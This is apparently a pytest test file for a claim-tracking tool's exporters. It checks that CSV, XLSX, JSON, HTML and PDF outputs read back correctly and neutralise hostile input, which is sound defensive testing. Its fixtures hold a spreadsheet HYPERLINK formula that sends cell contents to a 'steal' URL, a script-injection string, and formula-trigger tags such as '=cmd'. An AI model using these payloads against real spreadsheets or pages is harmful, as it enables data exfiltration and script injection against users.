"""Claim sheets read back with independent readers: csv, openpyxl, json, an HTML parser, pdftotext."""

import csv
import datetime as dt
import json
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from claimtracker.cli import main
from claimtracker.domain import AttributionChain, Claim, ClaimDate, Precision, Span
from claimtracker.domain.claim_filter import ClaimFilter
from claimtracker.exporting.exporter import export
from claimtracker.exporting.sheet import Cancelled
from claimtracker.importing.importer import import_paths
from claimtracker.importing.sample_claims import load_claims_by_quote
from claimtracker.storage.claims_repo import add_claim
from claimtracker.storage.database import sqlite_url
from tests.conftest import SAMPLE_CLAIMS, SEEDS

EVIL = '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"click")'
SCRIPT = "<script>alert('pwned')</script> & <b>bold</b>"


@pytest.fixture
def sheet_db(sqlite_db):
    """The seeds, their sample claims, and two hostile claims."""
    report = import_paths(sqlite_db, [SEEDS])
    articles = {Path(a.source_path).name: a for a in report.added}
    load_claims_by_quote(sqlite_db, SEEDS / "annotations.json", articles, who="amina")
    article = articles["003_9f2c35486580cde8.txt"]
    start = article.body.index("Qaani")
    with sqlite_db.transaction() as s:
        for text, tags in ((EVIL, ("=cmd",)), (SCRIPT, ("-1+1", "@sum"))):
            add_claim(
                s,
                Claim.from_span(
                    article.id,
                    article.body,
                    Span(start, start + 5),
                    AttributionChain.of("Élodie Ça"),
                    text=text,
                    tags=tags,
                    note="\tnote",
                    claim_date=ClaimDate.of(dt.date(2023, 1, 30), Precision.DAY, "lundi"),
                ),
            )
    return sqlite_db


def _export(db, fmt, tmp_path) -> Path:
    """Every claim of the sheet database (the sample claims and 2 hostile ones) to one file."""
    path = tmp_path / f"sheet.{fmt}"
    assert export(db, ClaimFilter(), fmt, path) == SAMPLE_CLAIMS + 2
    return path


def test_csv_is_utf8_with_header_accents_and_no_formulas(sheet_db, tmp_path):
    path = _export(sheet_db, "csv", tmp_path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets then read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == SAMPLE_CLAIMS + 2
    evil = next(r for r in rows if "HYPERLINK" in r["claim"])
    assert evil["claim"] == "'" + EVIL and evil["tags"] == "'=cmd" and evil["note"] == "'\tnote"
    assert evil["speaker"] == "Élodie Ça"
    masjidi = next(r for r in rows if r["speaker"] == "Erge Masjidi")
    assert masjidi["chain"] == "Erge Masjidi → Al-Ain → Sawt Beirut International"
    assert masjidi["claim_date_wording"] == "lundi" and masjidi["claim_date_certain"] == "no"
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)


def test_xlsx_has_real_dates_a_frozen_header_and_inert_text(sheet_db, tmp_path):
    path = _export(sheet_db, "xlsx", tmp_path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["claim_id", "claim_date", "claim_date_precision"]
    assert sheet.freeze_panes == "A2" and sheet[1][0].font.bold
    claim_column = header.index("claim") + 1
    letter = openpyxl.utils.get_column_letter(claim_column)
    assert sheet.column_dimensions[letter].width > 50  # the claim column is wide
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == SAMPLE_CLAIMS + 2
    evil_row = next(
        i
        for i, r in enumerate(sheet.iter_rows(min_row=2), 2)
        if "HYPERLINK" in str(r[claim_column - 1].value)
    )
    cell = sheet.cell(evil_row, claim_column)
    assert cell.value == EVIL and cell.data_type == "s"  # a string, not a formula
    assert cell.alignment.wrap_text
    dated = next(r for r in rows if r[header.index("claim_date_wording")] == "October 2019")
    assert isinstance(dated[1], dt.datetime) and dated[1].date() == dt.date(2019, 10, 1)
    assert sheet.cell(2 + rows.index(dated), 2).number_format == "yyyy-mm"  # shown to its precision


def test_json_has_every_field_and_w3c_annotations_and_round_trips(sheet_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("CLAIMTRACKER_ANALYST", "tester")
    path = _export(sheet_db, "json", tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    claim = next(
        c
        for c in data["claims"]
        if c["speaker"] == "a second Iraqi security source" and c["event_date"]["value"]
    )
    assert claim["chain"][1]["name"] == "Reuters" and claim["intermediaries"] == []
    assert claim["publisher"] == "Reuters"
    assert claim["event_date"] == {
        "value": "2019-10-03",
        "earliest": "2019-10-03",
        "latest": "2019-10-03",
        "edtf": "2019-10-03",
        "precision": "day",
        "wording": "on Oct. 3",
        "certain": True,
        "doubt": "",
    }
    note = next(a for a in data["annotations"] if a["id"] == f"urn:claimtracker:claim:{claim['id']}")
    assert note["@context"] == "http://www.w3.org/ns/anno.jsonld" and note["type"] == "Annotation"
    # The creator is whoever recorded the claim (the model reserves it for that), not the speaker;
    # the speaker, the chain with its roles and the dates are bodies.
    assert note["creator"] == {"type": "Person", "nickname": "amina"} and note["created"].endswith("Z")
    described, comment, *tags = note["body"]
    assert described["value"] == claim["text"] and described["purpose"] == "describing"
    assert comment["purpose"] == "commenting" and "Said by a second Iraqi security source" in comment["value"]
    assert "event 2019-10-03" in comment["value"]
    assert [t["value"] for t in tags] == ["origin: a second Iraqi security source", "intermediary: Reuters"]
    quote, position = note["target"]["selector"]
    assert quote["type"] == "TextQuoteSelector" and quote["exact"] == claim["quote"]["exact"]
    assert position == {
        "type": "TextPositionSelector",
        "start": claim["span"]["start"],
        "end": claim["span"]["end"],
    }
    article = next(a for a in data["articles"] if a["id"] == claim["article_id"])
    assert article["body"][position["start"] : position["end"]] == quote["exact"]

    empty = f"sqlite:///{tmp_path / 'empty.sqlite'}"
    assert main(["--db", empty, "import-claims", str(path)]) == 0
    again = tmp_path / "again.json"
    assert main(["--db", empty, "export", "--format", "json", "-o", str(again)]) == 0
    second = json.loads(again.read_text(encoding="utf-8"))
    assert [f["statement"] for f in data["facts"]][:1] == [
        "Esmail Qaani travelled to Baghdad and met Iraqi armed-faction leaders"
    ]
    for key in ("claims", "articles", "sources", "facts"):
        assert second[key] == data[key], key

    def content(annotations):  # who recorded a claim, and when, is this database's own history
        return [
            {k: v for k, v in a.items() if k not in ("creator", "created", "modified")} for a in annotations
        ]

    assert content(second["annotations"]) == content(data["annotations"])
    assert {a["creator"]["nickname"] for a in second["annotations"]} == {"tester"}
    assert main(["--db", empty, "import-claims", str(path)]) == 0  # again: nothing doubles, facts neither
    capsys.readouterr()
    assert main(["--db", empty, "facts", "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)) == len(data["facts"]) == 2
    capsys.readouterr()
    assert main(["--db", empty, "claims", "--json"]) == 0
    assert (
        len(json.loads(capsys.readouterr().out)) == len(data["claims"]) == SAMPLE_CLAIMS + 2
    )  # neither claims nor articles


def test_import_claims_reanchors_moved_spans_and_names_what_it_cannot_place(sheet_db, tmp_path, capsys):
    path = _export(sheet_db, "json", tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["claims"][0]["span"] = {"start": 999999, "end": 1000005}  # out of range, quote still findable
    data["claims"][1]["quote"]["exact"] = "words the article never had"
    broken = tmp_path / "broken.json"
    broken.write_text(json.dumps(data), encoding="utf-8")
    assert main(["--db", sqlite_url(tmp_path / "other.sqlite"), "import-claims", str(broken)]) == 2
    err = capsys.readouterr().err
    assert "re-anchored claim 1" in err
    assert "claim 2 (id" in err and "does not hold its quote" in err
    assert f"{SAMPLE_CLAIMS + 1} claims" in err and "1 left out" in err

    (tmp_path / "nonsense.json").write_text("{not json", encoding="utf-8")
    assert (
        main(
            ["--db", sqlite_url(tmp_path / "other.sqlite"), "import-claims", str(tmp_path / "nonsense.json")]
        )
        == 2
    )
    assert "nonsense.json: not valid JSON (line 1" in capsys.readouterr().err


class _Parsed(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_grouped_states_the_filter_and_escapes_claim_text(sheet_db, tmp_path):
    path = tmp_path / "sheet.html"
    export(sheet_db, ClaimFilter(via="Reuters"), "html", path, group="source")
    parsed = _Parsed()
    parsed.feed(path.read_text(encoding="utf-8"))
    text = "".join(parsed.text)
    assert "Filter: via Reuters" in text
    headings = [t for t in parsed.tags if t == "h2"]
    assert len(headings) == 4  # one per speaker of the 6 claims relayed by Reuters
    every = tmp_path / "all.html"
    export(sheet_db, ClaimFilter(), "html", every, group="date")
    parsed = _Parsed()
    parsed.feed(every.read_text(encoding="utf-8"))
    assert "script" not in parsed.tags and "b" not in parsed.tags
    assert SCRIPT in "".join(parsed.text)
    assert "Without a date" in "".join(parsed.text)


@pytest.mark.skipif(
    shutil.which("pdftotext") is None, reason="pdftotext (Debian: poppler-utils) is not installed"
)
def test_pdf_holds_the_sheet_as_text(sheet_db, tmp_path, qapp):
    path = tmp_path / "sheet.pdf"
    assert main(["--db", str(sheet_db.sqlite_path), "export", "--format", "pdf", "-o", str(path)]) == 0
    assert path.read_bytes().startswith(b"%PDF")
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "Claim sheet" in text and "Filter: all claims" in text
    assert "<script>alert('pwned')</script>" in text
    assert "a second Iraqi security source → Reuters" in " ".join(text.split())


def test_cancelling_leaves_no_file_and_bad_targets_are_named(sheet_db, tmp_path):
    target = tmp_path / "sheet.csv"
    with pytest.raises(Cancelled):
        export(sheet_db, ClaimFilter(), "csv", target, cancelled=lambda: True)
    assert list(tmp_path.glob("*sheet*")) == []
    from claimtracker.errors import UserError

    with pytest.raises(UserError, match="does not exist"):
        export(sheet_db, ClaimFilter(), "csv", tmp_path / "missing" / "sheet.csv")


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (Debian: libreoffice-calc) is not installed"
)
def test_libreoffice_reads_the_xlsx_cells(sheet_db, tmp_path):
    path = _export(sheet_db, "xlsx", tmp_path)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with (tmp_path / "sheet.csv").open(encoding="utf-8", errors="replace", newline="") as f:
        rows = list(csv.reader(f))
    assert (
        rows[0][0] == "claim_id" and len(rows) == SAMPLE_CLAIMS + 3
    )  # the header, the sample and 2 hostile claims
    assert any(EVIL in row for row in rows)  # shown as text, not computed


def test_sheets_come_out_the_same_from_postgresql_and_sqlite(db, tmp_path):
    """The batched reads behind CSV and XLSX (one array parameter per batch) on both databases."""
    report = import_paths(db, [SEEDS])
    load_claims_by_quote(db, SEEDS / "annotations.json", {Path(a.source_path).name: a for a in report.added})
    path = tmp_path / "sheet.csv"
    assert export(db, ClaimFilter(via="Reuters"), "csv", path) == 6
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["publisher"] for r in rows} == {"Reuters"} and all(r["article_title"] for r in rows)
    assert [r["claim_date"] for r in rows] == ["2019-10"] * 6
